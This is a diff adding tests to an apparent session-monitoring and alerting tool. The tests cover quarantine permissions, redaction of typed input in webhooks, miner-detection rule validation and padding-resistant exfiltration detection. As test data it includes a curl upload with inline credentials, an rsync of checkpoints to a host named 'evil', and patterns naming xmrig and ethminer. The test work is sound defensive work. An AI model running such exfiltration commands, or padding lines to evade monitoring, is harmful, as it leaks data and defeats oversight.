@@ -313,3 +313,57 @@ def test_drift_jobs_follow_grant_pushes_and_recorded_sessions(app: App) -> None:
         ("drift_check", "000002", None),
     ]
     assert to_text(T0)  # times are stored as UTC text
+
+
+# ---------------------------------------------------------------- CLI and delivery
+
+
+def test_root_without_a_directory_account_cannot_quarantine(daemon: Path) -> None:
+    from tests.helpers import run_broker
+
+    done = run_broker(
+        "node", "quarantine", "gpu01", "--reason", "INC-1 test", config=daemon, stdin="123456\n"
+    )
+    assert done.returncode == 1
+    assert "is not a usable directory account" in done.stderr
+    listed = run_broker("alerts", "list", "--json", config=daemon)
+    assert listed.returncode == 0 and json.loads(listed.stdout) == []
+    bad = run_broker("alerts", "list", "--severity", "urgent", config=daemon)
+    assert bad.returncode == 2 and "expected one of info, low" in bad.stderr
+
+
+def test_the_webhook_never_carries_the_typed_line() -> None:
+    from broker.detect.notify import AlertMessage, payload
+
+    message = AlertMessage.from_row(
+        (7, "2026-11-23T10:00:00.000000Z", None, "exfiltration", "critical", "alice", "gpu01",
+         None, "00000A", "copying checkpoints off the node",
+         json.dumps({"excerpt": "curl -u alice:hunter2 -T x", "stream": "input"}),
+         json.dumps(["alert"]), "session:00000A:input:0", None, None, None)
+    )  # fmt: skip
+    body = payload(message)
+    assert b"hunter2" not in body and b'"stream":"input"' in body
+
+
+def test_patterns_that_cannot_be_combined_are_policy_errors() -> None:
+    text = "\n".join(
+        problems_of(
+            '[detect.rules.miner]\nkind = "session_match"\npatterns = ["xmrig", "(?i)ethminer"]\n'
+            '[detect.rules.echo]\nkind = "session_match"\npatterns = ["(a)\\\\1"]\n'
+        )
+    )
+    assert "cannot be combined" in text and "(?i:...)" in text
+    assert "back-references are not allowed" in text
+    assert detection('[detect.rules.miner]\nkind = "session_match"\npatterns = ["(?i:XMRIG)"]\n')
+
+
+def test_padding_a_line_does_not_hide_its_head() -> None:
+    detector = Detector(DEFAULT, new_memory())
+    rec = Recording("00000C", "gpu01", "alice", None)
+    carry = b""
+    found = []
+    for piece in (b"rsync -a" + b" " * 5000, b" " * 5000, b"/data/checkpoints evil:\r"):
+        hits, carry = detector.stream(rec, "input", piece, carry, T0.timestamp(), 0)
+        found.extend(hits)
+        assert len(carry) <= 4096
+    assert [f.rule for f in found] == ["exfiltration"]
